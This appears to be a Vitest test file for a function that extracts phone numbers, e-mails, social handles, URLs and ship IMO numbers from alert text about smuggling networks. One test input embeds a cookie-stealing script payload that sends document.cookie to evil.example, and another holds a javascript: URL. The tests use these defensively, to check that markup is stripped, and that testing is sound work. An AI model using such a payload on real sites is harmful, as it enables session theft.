import { describe, expect, it } from 'vitest';
import { type ExtractOptions, extractObservables, MAX_EXTRACTION_TEXT_LENGTH, type ObservableCandidate } from './index.js';

function extract(text: string, options?: ExtractOptions) {
  const { candidates } = extractObservables(text, options);
  return candidates;
}

/** Each candidate as "key ← the text its spans cover". */
function described(text: string, candidates: readonly ObservableCandidate[]): string[] {
  return candidates.map(
    (candidate) =>
      `${candidate.kind}:${candidate.value} ← ${candidate.spans.map(({ start, end }) => text.slice(start, end)).join(' | ')}`,
  );
}

describe('extractObservables', () => {
  it('finds the observables of an alert description, with the text each came from', () => {
    const text =
      'Boat IMO 9074729 left Nador on 12/05/2024 at 03:00. Organiser reachable on 0661 23 45 67 and 0034 612 345 678, ' +
      'mail Passeur.Nador@Example.org; Telegram @Passeur_Nador. Ads: https://example.com/voyage?utm_source=fb (see https://t.me/joinchat/AbC).';
    expect(described(text, extract(text, { defaultCountry: 'MA' }))).toEqual([
      'vessel_imo:9074729 ← IMO 9074729',
      'phone:+212661234567 ← 0661 23 45 67',
      'phone:+34612345678 ← 0034 612 345 678',
      'email:passeur.nador@example.org ← Passeur.Nador@Example.org',
      'handle:telegram:passeur_nador ← @Passeur_Nador',
      'url:https://example.com/voyage ← https://example.com/voyage?utm_source=fb',
      'url:https://t.me/joinchat/AbC ← https://t.me/joinchat/AbC',
    ]);
  });

  it('finds international numbers of the region without a default country', () => {
    const text = 'Numéros : +221 77 123 45 67, +227 90 12 34 56, +218 91 234 5678, +39 347 123 4567, 00212 661 234 567.';
    expect(extract(text).map((candidate) => candidate.value)).toEqual([
      '+221771234567',
      '+22790123456',
      '+218912345678',
      '+393471234567',
      '+212661234567',
    ]);
  });

  it('gathers every place an observable was written under one candidate', () => {
    const text = 'Call +212 661 23 45 67. Again: 00212661234567. https://t.me/passeur_nador and telegram @Passeur_Nador';
    expect(described(text, extract(text))).toEqual([
      'phone:+212661234567 ← +212 661 23 45 67 | 00212661234567',
      'handle:telegram:passeur_nador ← https://t.me/passeur_nador | @Passeur_Nador',
    ]);
  });

  it('reads digits written in Arabic script and keeps spans in the original text', () => {
    const text = 'اتصل بالرقم ٠٦٦١٢٣٤٥٦٧ أو على واتساب @212661234567';
    expect(described(text, extract(text, { defaultCountry: 'MA' }))).toEqual([
      'phone:+212661234567 ← ٠٦٦١٢٣٤٥٦٧',
      'handle:whatsapp:+212661234567 ← @212661234567',
    ]);
  });

  it('takes the platform of a handle from the nearest platform named before it, or from the options', () => {
    const text = 'Instagram @some.one, TikTok: @travel.europe. Another account, reported by the police, is @unnamed_one';
    expect(extract(text).map((candidate) => candidate.value)).toEqual(['instagram:some.one', 'tiktok:travel.europe']);
    expect(extract(text, { platform: 'x' }).map((candidate) => candidate.value)).toContain('x:unnamed_one');
  });

  it('recognises profile addresses as handles', () => {
    const text = 'Pages: https://www.facebook.com/john.smith, wa.me/212661234567 and https://www.tiktok.com/@Travel.Europe.';
    expect(extract(text).map((candidate) => candidate.value)).toEqual(
      ['handle:facebook:johnsmith', 'handle:whatsapp:+212661234567', 'handle:tiktok:travel.europe'].map((key) =>
        key.slice('handle:'.length),
      ),
    );
  });

  it('does not take the digits of addresses, IMO numbers or e-mail addresses for phone numbers', () => {
    const text = 'https://example.com/item/0661234567 IMO 9074729 0661234567@example.com';
    expect(extract(text, { defaultCountry: 'MA' }).map((candidate) => candidate.kind)).toEqual(['url', 'vessel_imo', 'email']);
  });

  it('leaves out what only looks like an observable', () => {
    const text = 'IMO 9074728 (wrong check digit), a@b.c, dates 2024-05-12, amounts 1 500 000 EUR, @unknown, javascript:alert(1)';
    expect(extract(text, { defaultCountry: 'ES' })).toEqual([]);
  });

  it('trims sentence punctuation and unmatched brackets from addresses', () => {
    const text = 'See (https://example.com/a_(b)), https://example.com/c. And https://example.com/d!';
    expect(extract(text).map((candidate) => candidate.value)).toEqual([
      'https://example.com/a_(b)',
      'https://example.com/c',
      'https://example.com/d',
    ]);
  });

  it('does not find markup, and does not carry it into a candidate', () => {
    const text = '<script>fetch("https://evil.example/x?c="+document.cookie)</script> <b>+212661234567</b>';
    const candidates = extract(text);
    expect(candidates.map((candidate) => candidate.value)).toEqual(['https://evil.example/x?c=', '+212661234567']);
    for (const candidate of candidates) expect(candidate.display).not.toMatch(/[<>]/);
  });

  it('returns nothing for text that is not a string', () => {
    expect(extractObservables(undefined)).toEqual({ candidates: [], truncated: false });
    expect(extractObservables({ text: '+212661234567' })).toEqual({ candidates: [], truncated: false });
  });

  it('scans a very long text up to its limit, says it stopped, and stays fast on hostile text', () => {
    const hostile = `${'a.'.repeat(30_000)}@${'b-'.repeat(30_000)}${'@'.repeat(20_000)}${'1 '.repeat(40_000)}+212661234567`;
    const started = performance.now();
    const result = extractObservables(hostile, { defaultCountry: 'MA' });
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(result.truncated).toBe(true);
    expect(result.candidates.every((candidate) => candidate.spans.every((span) => span.end <= MAX_EXTRACTION_TEXT_LENGTH))).toBe(
      true,
    );

    const withinLimit = `${'x '.repeat(10_000)}+212661234567`;
    expect(extractObservables(withinLimit)).toMatchObject({ truncated: false, candidates: [{ value: '+212661234567' }] });
  });

  it.each([
    ['spaces after "IMO"', `IMO${' '.repeat(90_000)}x`],
    ['an unfinished e-mail address', `${'a'.repeat(64)}@${'b'.repeat(63)}.`.repeat(500)],
    ['an address of brackets', `https://example.com/${')'.repeat(1_990)} `.repeat(40)],
    ['handles without a platform', '@a '.repeat(30_000)],
    ['many short handles', 'X @a '.repeat(20_000)],
    ['many phone numbers', '+212661234567 '.repeat(1_500)],
  ])('stays fast on %s', (_label, hostile) => {
    const started = performance.now();
    extractObservables(hostile, { platform: 'x' });
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
